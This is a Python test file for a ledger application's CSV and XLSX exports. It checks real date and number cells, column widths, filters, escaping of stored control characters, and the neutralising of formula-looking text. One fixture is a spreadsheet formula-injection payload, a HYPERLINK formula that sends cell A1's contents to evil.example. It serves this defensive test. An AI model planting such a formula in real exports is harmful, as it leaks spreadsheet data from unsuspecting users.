"""Export cells: real dates and numbers, readable widths, filters, inert formulas, and any
stored text exported without failing (the stored event untouched)."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from ledger.domain.agency import Agency
from ledger.web.files import to_csv, to_xlsx
from ledger.web.sheets import Table
from tests.api.conftest import principal
from tests.web.conftest import make_app, signed_in, token_for
from tests.web.test_exports import csv_rows

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
CONTROL = "宣城\x07敬亭\x1b[31m招标\x0b代理有限公司"
F_CODE, C_CODE = "91341800H9EH9J1GRF", "91341800NNDMLAR0UG"


@pytest.fixture
def app(database_url):
    app = make_app(database_url)
    ledger = app.extensions["ledger"].ledger
    li = principal("regulator")
    ledger.register_agency(li, F_CODE, FORMULA, date(2019, 5, 10))
    # Text the commands refuse, as an older store may hold it: written as an event directly.
    ledger.save(Agency(credit_code=C_CODE, name=CONTROL, registered_on=date(2019, 5, 10),
                       recorded_by=li.name))
    ledger.record_deduction(li, F_CODE, "D01", date(2022, 1, 10), "-3 分：逾期 =1+1")
    app.extensions["ledger"].read_side.refresh()
    yield app
    app.extensions["ledger"].close()


def workbook(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return load_workbook(io.BytesIO(response.get_data()))


def test_a_formula_looking_name_is_inert_in_csv_and_xlsx(app):
    rows = csv_rows(app.test_client().get("/exports/standings.csv?month=2022-01"))
    names = {r[1]: r[2] for r in rows[1:]}
    assert names[F_CODE] == "'" + FORMULA  # a leading apostrophe: Excel shows it as text

    sheet = workbook(app.test_client().get("/exports/standings.xlsx?month=2022-01")).active
    cell = next(row[2] for row in sheet.iter_rows(min_row=2) if row[1].value == F_CODE)
    assert cell.value == FORMULA and cell.data_type == "s" and cell.quotePrefix


def test_negative_numbers_stay_numbers_and_formula_text_in_other_columns_is_inert(app):
    client = signed_in(app, "regulator")
    rows = csv_rows(client.get("/exports/deductions.csv?month=2022-01"))
    header = rows[0]
    found = dict(zip(header, rows[1]))
    assert found["事由"] == "'-3 分：逾期 =1+1" and found["实扣分"] == "2"
    sheet = workbook(client.get("/exports/deductions.xlsx?month=2022-01")).active
    reason = sheet.cell(row=2, column=header.index("事由") + 1)
    assert reason.value == "-3 分：逾期 =1+1" and reason.data_type == "s"
    points = sheet.cell(row=2, column=header.index("实扣分") + 1)
    assert points.value == 2 and points.data_type == "n"


def test_negative_numbers_are_written_as_numbers_not_neutralized():
    table = Table("t", ["差额", "说明"], [[Decimal("-3.5"), "-3.5"], [-2, "+1"]])
    assert csv_rows_of(to_csv(table))[1:] == [["-3.5", "'-3.5"], ["-2", "'+1"]]
    sheet = load_workbook(io.BytesIO(to_xlsx(table))).active
    assert [c.value for c in sheet[2]] == [-3.5, "-3.5"] and sheet["A2"].data_type == "n"
    assert sheet["A3"].value == -2 and sheet["B3"].data_type == "s"


def csv_rows_of(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_stored_control_characters_are_escaped_in_exports_not_refused(app):
    client = signed_in(app, "regulator")
    escaped = "宣城\\x07敬亭\\x1b[31m招标\\x0b代理有限公司"
    book = workbook(client.get("/exports/exchange.xlsx"))
    names = {row[0]: row[1] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)}
    assert names[C_CODE] == escaped
    rows = csv_rows(client.get("/exports/standings.csv?month=2022-01"))
    assert {r[1]: r[2] for r in rows[1:]}[C_CODE] == escaped
    # The event itself still holds the text as it was stored.
    token = token_for(app, "auditor")
    events = app.test_client().get(f"/api/v1/agencies/{C_CODE}/events",
                                   headers={"Authorization": f"Bearer {token}"}).get_json()
    assert events[0]["data"]["name"] == CONTROL


def test_xlsx_has_date_cells_frozen_filtered_headers_and_wide_enough_columns(app):
    client = signed_in(app, "regulator")
    sheet = workbook(client.get("/exports/deductions.xlsx?month=2022-01")).active
    header = [c.value for c in sheet[1]]
    found_on = sheet.cell(row=2, column=header.index("发现日期") + 1)
    assert found_on.is_date and found_on.value == datetime(2022, 1, 10)
    assert found_on.number_format == "yyyy-mm-dd"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(row=1, column=len(header)).column_letter}2"
    name_column = sheet.cell(row=1, column=header.index("机构名称") + 1).column_letter
    # The agency's name, Chinese characters counted double, fits its column.
    assert sheet.column_dimensions[name_column].width >= len(FORMULA) + 4  # 4 of them

    trail = workbook(client.get(f"/exports/agencies/{F_CODE}/trail.xlsx")).active
    recorded_at = trail.cell(row=2, column=3)
    assert recorded_at.is_date and isinstance(recorded_at.value, datetime)
